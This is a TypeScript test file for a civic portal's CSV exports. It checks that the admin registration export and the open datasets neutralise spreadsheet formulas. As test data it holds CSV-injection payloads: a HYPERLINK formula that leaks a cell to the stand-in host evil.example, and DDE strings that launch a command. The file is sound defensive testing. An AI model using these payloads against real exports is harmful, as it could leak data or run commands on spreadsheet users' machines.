import { isNotNull } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { createTestApp } from './testing/test-app.js';
import type { FastifyInstance } from 'fastify';
import { signInAs } from './testing/sign-in.js';
import { registry } from './registry.js';
import { registrations } from './modules/registrations/schema.js';
import { activities, commitments, milestones } from './modules/plan/schema.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")';

/** A sign-up to the demo's open call, through its form. */
async function signUp(app: FastifyInstance) {
  const form = '/ejercicios/cuarto-pal-demostracion/convocatoria/sumate';
  const page = await app.inject({ url: form });
  const body = new URLSearchParams({
    _csrf: /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!,
    privacyNoticeId: /name="privacyNoticeId" value="([^"]+)"/.exec(page.body)![1]!,
    fullName: 'María Fernanda Ríos',
    email: 'mafer@example.mx',
    municipalityCvegeo: '10005',
    sector: 'civil_society_org',
    themes: 'Espacios públicos',
    motivation: 'Quiero ayudar a recuperar los parques de mi colonia con mis vecinas.',
    acceptsHonorary: 'yes',
    consent: 'yes',
  });
  const cookies = { csrf: page.cookies.find((c) => c.name === 'csrf')!.value };
  const sent = await app.inject({
    method: 'POST',
    url: form,
    cookies,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    payload: body.toString(),
  });
  expect(sent.statusCode).toBe(303);
}

/** The cells of a CSV (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function cells(csv: string): string[] {
  const found: string[] = [];
  const pattern = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g;
  for (const match of csv.replace(/^\uFEFF/, '').matchAll(pattern))
    found.push(match[1] !== undefined ? match[1].replace(/""/g, '"') : (match[2] ?? ''));
  return found;
}

/** A cell a spreadsheet would run: it starts with =, +, -, @, a tab or a CR and is not a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell);

describe('spreadsheets run nothing: every CSV the portal writes neutralises formulas', () => {
  it('a sign-up and a commitment whose texts begin with =HYPERLINK(...) come out inert in the admin export and in every open dataset', async () => {
    const { app, database } = await createTestApp();
    await signUp(app);
    await database.db
      .update(registrations)
      .set({ fullName: FORMULA, organization: '+cmd|" /C calc"!A0', motivation: '@SUM(1+1)*cmd|" /C calc"!A0' });
    await database.db.update(commitments).set({ title: FORMULA, theme: '-2+3+cmd|" /C calc"!A0' });
    await database.db.update(milestones).set({ title: FORMULA });
    await database.db.update(activities).set({ title: `\t${FORMULA}` });
    const admin = await signInAs(database, { roles: [{ role: 'admin' }] });

    const callIds = [
      ...new Set(
        (
          await database.db
            .select({ callId: registrations.callId })
            .from(registrations)
            .where(isNotNull(registrations.callId))
        ).map((row) => row.callId),
      ),
    ];
    expect(callIds.length).toBeGreaterThan(0);
    const urls = [
      ...callIds.map((id) => `/admin/inscripciones/exportar.csv?convocatoria=${id}`),
      ...registry.datasets.map((dataset) => `/datos/${dataset.id}.csv`),
      ...registry.datasets.map((dataset) => `/datos/${dataset.id}/diccionario.csv`),
    ];
    // Every route that answers a CSV file is among them (a new one must be added here, and write through shared/csv).
    const csvRoutes = [
      ...new Set(app.declaredRoutes.filter((route) => /\.csv$/.test(route.url)).map((route) => route.url)),
    ];
    expect(csvRoutes.sort()).toEqual(['/admin/inscripciones/exportar.csv', '/datos/:id/diccionario.csv']);
    let neutralised = 0;
    for (const url of urls) {
      const response = await app.inject({ url, cookies: admin.cookies });
      expect(response.statusCode, url).toBe(200);
      expect(response.headers['content-type'], url).toContain('text/csv');
      const found = cells(response.body);
      expect(found.filter(runsAsFormula), url).toEqual([]);
      neutralised += found.filter((cell) => cell.startsWith(`'${FORMULA}`) || cell.startsWith(`'\t${FORMULA}`)).length;
    }
    expect(neutralised).toBeGreaterThan(0);
    const exported = await app.inject({
      url: `/admin/inscripciones/exportar.csv?convocatoria=${callIds[0]}`,
      cookies: admin.cookies,
    });
    expect(cells(exported.body)).toContain(`'${FORMULA}`);
    expect(cells((await app.inject({ url: '/datos/compromisos.csv' })).body)).toContain(`'${FORMULA}`);
  });
});
